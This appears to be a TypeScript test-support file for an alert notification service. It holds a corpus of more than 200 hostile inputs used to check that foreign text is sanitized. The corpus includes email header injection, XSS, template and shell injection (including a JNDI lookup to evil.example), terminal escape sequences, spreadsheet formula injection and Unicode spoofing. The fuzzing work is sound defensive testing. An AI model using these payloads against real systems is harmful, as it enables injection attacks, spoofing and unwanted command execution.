import { alert, notification, NOW } from './support.ts';
import type { Notification } from '../../../src/alerts/notification.ts';

const ESCAPE = '\u{1B}';

const SEEDS: readonly string[] = [
  // Lines and headers.
  '\r\nBcc: v@evil.example', '\nTo: v@evil.example', 'a@x\r\nRCPT TO:<v@evil.example>', '\r\n.\r\nMAIL FROM:<v@evil.example>\r\nDATA', '\r\n\r\n<b>body</b>', '\r', '\n.\n', '%0d%0aX-Evil: 1', '\\r\\nX-Evil: 1',
  '\u{85}X-Evil: 1', '\u{2028}X-Evil: 1', '\u{2029}X-Evil: 1', '\u{560D}\u{560A}X-Evil: 1', '=?UTF-8?B?DQpCY2M6IHZAZXZpbA==?=', '=0D=0ABcc: v@evil.example', '"v@evil.example" <v@evil.example>', 'x, v@evil.example', 'group: v@evil.example;',
  // HTML.
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", '</pre><b>', '</td></tr></table>', '</title><script>', '<!--', '-->', '<![CDATA[', '&lt;script&gt;', '&#60;script&#62;', 'javascript:alert(1)', '<svg/onload=alert(1)>', '`-alert(1)-`', '<style>*{display:none}</style>',
  // Templates and shells.
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% raw %}', '{{ .Labels }}', '${jndi:ldap://evil.example/a}', '$(touch /tmp/evil)', '`touch /tmp/evil`', '; touch /tmp/evil', '| mail v@evil.example', '&& reboot', '\\', '\\\\', '%s%n%x', '!ref',
  // Mentions and links of chats.
  '@everyone', '@here', '<@123456789>', '<@&123456789>', '<!channel>', '<!here|here>', '<!subteam^S1>', '<#C123>', '<https://evil.example|click>', '[click](https://evil.example)', '[x]: https://evil.example', '![x](https://evil.example/x.png)', 'https://evil.example/', '<at>name</at>', '@bot /start', '/quit', '@[Name](uuid)',
  // Markdown.
  '**bold**', '__under__', '~~strike~~', '||spoiler||', '```\ncode', '`code`', '> quote', '# heading', '- item', '1. item', '---', '_it_', '<t:0:R>', ':fire:', '<:e:1>', '* * *',
  // Controls.
  `${ESCAPE}[2J`, `${ESCAPE}]0;title\u{7}`, `${ESCAPE}]52;c;ZXZpbA==\u{7}`, `${ESCAPE}]8;;https://evil.example\u{7}x${ESCAPE}]8;;\u{7}`, '\u{9B}31m', '\u{9D}0;x\u{9C}', '\u{0}', 'a\u{0}b', '\b\b\b', '\u{7F}', '\t\tx', '\v\f', '\u{1A}', ESCAPE,
  // Unicode.
  '\u{202E}gnp.exe', '\u{2066}x\u{2069}', '\u{200B}\u{200C}\u{200D}', '\u{FEFF}', '\u{D800}', '\u{DC00}x', 'x\u{DBFF}', '\u{E000}', '\u{F0000}', '\u{FFFF}', '\u{E0041}', '\u{115F}\u{3164}', '\u{FE0F}', 'e\u{301}'.repeat(200), '\u{FDFA}'.repeat(50), '\u{1F469}\u{200D}\u{1F467}', '\u{FF1C}script\u{FF1E}', '\u{FF20}everyone',
  // Formulas.
  '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(A1)', '=HYPERLINK("https://evil.example")', '\t=1+1',
  // JSON and prototypes.
  '"}', '","routing_key":"x', '\\u0000', '{"$ref":"x"}', '__proto__', 'constructor', 'toString', '\'', '"', ']}', 'null', 'NaN',
  // Sizes.
  '', ' ', 'x'.repeat(5000), 'word '.repeat(3000), '<'.repeat(4000), '&'.repeat(4000), '*'.repeat(4000), '\u{1F600}'.repeat(2000), '@'.repeat(3000), '"'.repeat(3000), '\\'.repeat(3000), '\n'.repeat(3000), ESCAPE.repeat(3000),
];

/** More than 200 texts that want to be something else than text. */
export const HOSTILE: readonly string[] = [...SEEDS, ...SEEDS.slice(0, 80).map((seed, index) => `ok ${seed} ${SEEDS[(index * 7 + 3) % 120] ?? ''}`)];

/** A notification that has this text wherever foreign text can be. */
export const attack = (text: string): Notification => notification({
  host: text,
  groupLabels: { alertname: text, [text]: text },
  more: 1,
  alerts: [
    alert({ labels: { alertname: text, severity: text, [text]: text, other: text }, annotations: { summary: text, description: text, [text]: text }, expression: text, valueWords: text, fingerprint: text }),
    alert({ status: 'resolved', endsAt: NOW, labels: { alertname: 'Calm', mount: text }, annotations: { description: text } }),
  ],
});

/** Characters that must be nowhere in what is sent, line feeds of our own layout aside. */
export const UNSAFE = /[^\P{C}\n]|[\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

/** Every text in a piece of JSON, names too. */
export function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(textsIn);
  return typeof value === 'object' && value !== null ? Object.entries(value).flatMap(([name, own]) => [name, ...textsIn(own)]) : [];
}
